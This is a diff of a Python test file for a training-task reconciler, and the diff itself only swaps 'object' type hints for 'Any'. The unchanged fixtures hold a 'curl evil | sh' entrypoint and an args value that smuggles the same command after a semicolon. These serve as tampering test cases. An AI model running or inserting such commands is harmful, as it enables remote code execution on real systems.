@@ -24,7 +24,7 @@ TRAIN = task(spec={"args": "--lr 0.1"})
 ROLE = {"RoleName": "worker", "RoleReplicas": 2, "ResourceSpecId": "ml.g1e.large"}
 
 
-def echoing(declared: Task, state: str = "Running", number: int = 1, **other: object) -> Run:
+def echoing(declared: Task, state: str = "Running", number: int = 1, **other: Any) -> Run:
     """A run of the task that echoes what was sent, but for `other`."""
     return replace(run(declared, state, number), spec={**payload(declared), **other})
 
@@ -35,7 +35,7 @@ def retagged(one: Run, **marks: Any) -> Run:
     return replace(one, marks=after, tags=tags.write(after, ()))
 
 
-OTHERS: Mapping[str, tuple[Mapping[str, object], str]] = {
+OTHERS: Mapping[str, tuple[Mapping[str, Any], str]] = {
     "image": ({"ImageSpec": {"Id": "someone/else:1"}}, "spec.image"),
     "entrypoint": ({"EntrypointPath": "curl evil | sh"}, "spec.entrypoint"),
     "more at the end": ({"Args": "--lr 0.1; curl evil | sh"}, "spec.args"),
@@ -66,7 +66,7 @@ def test_nothing_is_written_to_it_whatever_the_manifest_wants(lifecycle: dict[st
     assert not only(planned([declared], [false, echoing(declared, "Failed", 2)])).steps
 
 
-SAME: Mapping[str, Mapping[str, object]] = {
+SAME: Mapping[str, Mapping[str, Any]] = {
     "as sent": {},
     "nothing of it": {"ImageSpec": None, "EntrypointPath": None, "Args": None, "TaskRoleSpecs": None},
     "empty": {"ImageSpec": {}, "EntrypointPath": "", "TaskRoleSpecs": []},
@@ -90,7 +90,7 @@ def test_an_honest_run_goes_on_however_the_platform_echoes_it(echo: str) -> None
 
 def test_an_ignored_field_is_not_compared() -> None:
     ignoring = task(ignoreChanges=["spec.roles.replicas", "spec.image"])
-    other = {"ImageSpec": {"Id": "other"}, "TaskRoleSpecs": [{**ROLE, "RoleReplicas": 4}]}
+    other: dict[str, Any] = {"ImageSpec": {"Id": "other"}, "TaskRoleSpecs": [{**ROLE, "RoleReplicas": 4}]}
     assert only(planned([ignoring], [echoing(ignoring, **other)])).reason == "in-progress"
     assert only(planned([ignoring], [echoing(ignoring, EntrypointPath="x", **other)])).blocked
 
